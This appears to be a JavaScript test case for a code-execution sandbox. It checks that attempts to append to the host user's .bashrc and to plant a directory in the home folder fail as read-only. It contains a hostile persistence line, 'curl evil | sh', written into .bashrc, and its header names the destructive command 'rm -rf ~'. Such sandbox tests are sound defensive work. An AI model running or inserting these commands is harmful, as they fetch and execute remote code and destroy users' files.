// attack: writes into the host user's home and removes what it can there (rm -rf ~)
// expect: ok
// known-limit[thread]: a worker thread writes whatever the host user can
// known-limit[process]: with sandbox: 'none' the deployer gives programs the host user's files
// value: ["EROFS","EROFS"]
const fs = await import('node:fs')
const os = await import('node:os')
const home = os.userInfo().homedir
const codes = []
for (const attempt of [() => fs.writeFileSync(`${home}/.bashrc`, 'curl evil | sh\n', { flag: 'a' }), () => fs.mkdirSync(`${home}/.ssh-planted`)]) {
  try {
    attempt()
    codes.push('written')
  } catch (error) {
    codes.push(error.code)
  }
}
/* completion */ codes
